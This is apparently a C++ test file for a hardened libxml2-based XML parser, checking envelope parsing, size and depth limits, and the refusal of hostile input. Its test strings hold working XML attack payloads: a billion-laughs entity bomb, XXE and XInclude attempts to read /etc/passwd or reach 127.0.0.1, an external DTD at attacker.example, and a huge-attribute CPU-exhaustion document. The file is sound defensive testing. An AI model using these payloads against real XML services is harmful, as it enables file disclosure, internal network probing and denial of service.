#include <catch2/catch.hpp>

#include <fstream>
#include <vector>

#include <libxml/parserInternals.h>
#include <string>

#include "xml/envelope.h"
#include "xml/parse.h"

using namespace sluice::xml;

namespace {

std::size_t rss_kb() {
  std::ifstream in("/proc/self/status");
  std::string line;
  while (std::getline(in, line)) {
    if (line.rfind("VmRSS:", 0) == 0) return std::stoul(line.substr(6));
  }
  return 0;
}

std::string refused(const std::string& doc, ParseLimits limits = {}) {
  initialize("");
  auto r = parse(doc, limits);
  REQUIRE_FALSE(r);
  return r.error().code;
}

const std::string kBillionLaughs = R"(<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<lolz>&lol9;</lolz>)";

}  // namespace

TEST_CASE("a well-formed document parses and its envelope is read") {
  initialize("");
  std::string doc = R"(<?xml version="1.0" encoding="UTF-8"?>
<env:Envelope xmlns:env="urn:sluice:xs:envelope:1" xmlns:cm="urn:sluice:xs:common:1">
  <env:SenderMessageId>S-1</env:SenderMessageId>
  <env:Sender><cm:Node>440604</cm:Node><cm:System>approval</cm:System></env:Sender>
  <env:Receiver><cm:Node>440600</cm:Node><cm:System>supervision</cm:System></env:Receiver>
  <env:DocType>case.accept</env:DocType><env:DocVersion>1</env:DocVersion>
  <env:Created>2026-11-20T09:30:00+08:00</env:Created>
  <env:Body><case:CaseAccept xmlns:case="urn:sluice:xs:case:1"><case:CaseId>C-000001</case:CaseId><case:Region>440604</case:Region></case:CaseAccept></env:Body>
</env:Envelope>)";
  auto d = parse(doc, {});
  REQUIRE(d);
  auto env = read_envelope(d->get());
  REQUIRE(env);
  CHECK(env->sender.str() == "440604/approval");
  CHECK(env->receiver.str() == "440600/supervision");
  CHECK(env->doc_type == "case.accept");
  CHECK(env->ordering_key() == "440604/C-000001");
  CHECK(env->created_ms > 0);
  set_message_id(*env, "01a206a5-7269-79a7-baea-dc5e35d66065");
  std::string out = serialize(d->get());
  CHECK(out.find("<env:MessageId>01a206a5-7269-79a7-baea-dc5e35d66065</env:MessageId>") !=
        std::string::npos);
}

TEST_CASE("a missing envelope field is named") {
  initialize("");
  auto d = parse(
      R"(<env:Envelope xmlns:env="urn:sluice:xs:envelope:1"><env:DocType>x</env:DocType></env:Envelope>)",
      {});
  REQUIRE(d);
  auto env = read_envelope(d->get());
  REQUIRE_FALSE(env);
  bool named = false;
  for (const auto& p : env.error()) named |= p.field == "SenderMessageId";
  CHECK(named);
}

TEST_CASE("a DOCTYPE is refused before any entity is expanded") {
  CHECK(refused(kBillionLaughs) == "xml.doctype-forbidden");
  CHECK(refused(R"(<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>)") ==
        "xml.doctype-forbidden");
  CHECK(refused(R"(<!DOCTYPE x SYSTEM "http://attacker.example/x.dtd"><x/>)") ==
        "xml.doctype-forbidden");
  std::string big(50'000, 'a');
  std::string quadratic = "<!DOCTYPE x [<!ENTITY a \"" + big + "\">]><x>";
  for (int i = 0; i < 1000; ++i) quadratic += "&a;";
  quadratic += "</x>";
  CHECK(refused(quadratic) == "xml.doctype-forbidden");
}

TEST_CASE("undeclared entity references and parameter tricks are refused") {
  CHECK(refused("<x>&undeclared;</x>") != "");
  CHECK(refused("<x>&#0;</x>") == "xml.not-well-formed");
}

TEST_CASE("depth, element and attribute counts and size are bounded") {
  ParseLimits l;
  l.max_depth = 20;
  std::string deep;
  for (int i = 0; i < 10'000; ++i) deep += "<a>";
  CHECK(refused(deep, l) == "xml.too-deep");
  l.max_elements = 100;
  std::string wide = "<r>";
  for (int i = 0; i < 1000; ++i) wide += "<a/>";
  wide += "</r>";
  CHECK(refused(wide, l) == "xml.too-many-elements");
  l.max_attributes = 10;
  std::string attrs = "<r";
  for (int i = 0; i < 50; ++i) attrs += " a" + std::to_string(i) + "=\"1\"";
  attrs += "/>";
  CHECK(refused(attrs, l) == "xml.too-many-attributes");
  l.max_bytes = 100;
  CHECK(refused("<r>" + std::string(200, 'x') + "</r>", l) == "xml.too-large");
  CHECK(refused("") == "xml.empty");
}

TEST_CASE("comments are dropped by default and refused for signed documents") {
  initialize("");
  auto d = parse("<r>te<!-- hidden -->xt<?pi x?></r>", {});
  REQUIRE(d);
  CHECK(serialize(d->get()).find("hidden") == std::string::npos);
  ParseLimits strict;
  strict.comments = Comments::kRefuse;
  CHECK(refused("<r>te<!-- hidden -->xt</r>", strict) == "xml.comment-forbidden");
  CHECK(refused("<r><?pi x?></r>", strict) == "xml.pi-forbidden");
}

TEST_CASE("hostile documents are refused without memory growth") {
  initialize("");
  for (int i = 0; i < 200; ++i) refused(kBillionLaughs);
  std::size_t before = rss_kb();
  for (int i = 0; i < 5000; ++i) {
    refused(kBillionLaughs);
    refused("<r>" + std::string(1000, '<') + "</r>");
  }
  std::size_t after = rss_kb();
  INFO("RSS before " << before << " kB, after " << after << " kB");
#if defined(__SANITIZE_ADDRESS__)
  // AddressSanitizer keeps freed memory in quarantine: RSS says nothing here.
  CHECK(after > 0);
#else
  CHECK(after < before + 4096);
#endif
}

namespace loads {
std::vector<std::string> urls;  // every external load libxml2 asked for during a test
xmlExternalEntityLoader next = nullptr;
xmlParserInputPtr spy(const char* url, const char* id, xmlParserCtxtPtr ctxt) {
  urls.emplace_back(url != nullptr ? url : "(null)");
  return next(url, id, ctxt);
}
}  // namespace loads

TEST_CASE("no document makes the parser load anything from outside", "[security]") {
  initialize("");
  // Every external load goes through the process-wide loader: a spy in front of the guarded
  // one records them. These documents each try a different way to reach a file or the net.
  loads::next = xmlGetExternalEntityLoader();
  xmlSetExternalEntityLoader(loads::spy);
  loads::urls.clear();
  const char* attempts[] = {
      R"(<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/etc/passwd" parse="text"/></r>)",
      R"(<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="http://127.0.0.1:9/x.xml"/></r>)",
      R"(<!DOCTYPE r SYSTEM "/etc/passwd"><r/>)",
      R"(<!DOCTYPE r SYSTEM "http://127.0.0.1:9/r.dtd"><r/>)",
      R"(<!DOCTYPE r [<!ENTITY % p SYSTEM "/etc/passwd"> %p;]><r/>)",
      R"(<!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/passwd">]><r>&e;</r>)",
      R"(<?xml-stylesheet href="/etc/passwd"?><r/>)",
      R"(<r xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="urn:x /etc/passwd" xsi:noNamespaceSchemaLocation="http://127.0.0.1:9/s.xsd"/>)",
  };
  for (const char* doc : attempts) {
    INFO(doc);
    auto d = parse(doc, {});
    if (d) {
      CHECK(serialize(d->get()).find("root:") == std::string::npos);
    }
  }
  xmlSetExternalEntityLoader(loads::next);
  INFO("loads requested: " << loads::urls.size());
  CHECK(loads::urls.empty());
  // And the guarded loader itself refuses a file outside the allowed directories.
  CHECK(loads::next("/etc/passwd", nullptr, nullptr) == nullptr);
  CHECK(loads::next("http://127.0.0.1:9/x", nullptr, nullptr) == nullptr);
}

// Attack: one element with 100,000 attributes (965 KB) cost libxml2 seconds of CPU, because
// the bound was checked only after libxml2 had parsed the whole tag. The per-element bound is
// now counted before libxml2 reads anything: the proof is a document whose huge tag comes
// after a well-formedness error — libxml2 would stop at the error first, the scan does not.
TEST_CASE("attributes on one element are bounded before libxml2 parses the tag", "[security]") {
  initialize("");
  ParseLimits l;  // defaults: 256 per element, 20,000 in all
  std::string huge = "<r";
  for (int i = 0; i < 100'000; ++i) huge += " a" + std::to_string(i) + "=\"\"";
  huge += "/>";
  REQUIRE(huge.size() > 900'000);
  l.max_bytes = 2u << 20;
  auto p = parse(huge, l);
  REQUIRE_FALSE(p);
  CHECK(p.error().code == "xml.too-many-attributes");
  CHECK(p.error().message.find("on one element") != std::string::npos);

  std::string after_error = "<r><a></b>\n<c";
  for (int i = 0; i < 300; ++i) after_error += " x" + std::to_string(i) + "='1'";
  after_error += "/></r>";
  auto q = parse(after_error, l);
  REQUIRE_FALSE(q);
  CHECK(q.error().code == "xml.too-many-attributes");
  CHECK(q.error().line == 2);

  // At the bound it parses; quoted '=' and '>' and '=' in comments, CDATA, PIs and text do
  // not count as attributes.
  std::string at_bound = "<r";
  for (int i = 0; i < 256; ++i) at_bound += " a" + std::to_string(i) + "='x=y>z'";
  at_bound += "><!-- " + std::string(500, '=') + " --><![CDATA[" + std::string(500, '=') +
              "]]><?pi " + std::string(500, '=') + "?>" + std::string(500, '=') + "</r>";
  CHECK(parse(at_bound, l));
  l.max_attributes_per_element = 255;
  CHECK(refused(at_bound, l) == "xml.too-many-attributes");
  // Namespace declarations count too (libxml2 compares them as well).
  std::string ns = "<r";
  for (int i = 0; i < 300; ++i)
    ns += " xmlns:p" + std::to_string(i) + "='urn:x" + std::to_string(i) + "'";
  ns += "/>";
  CHECK(refused(ns, ParseLimits{}) == "xml.too-many-attributes");
}
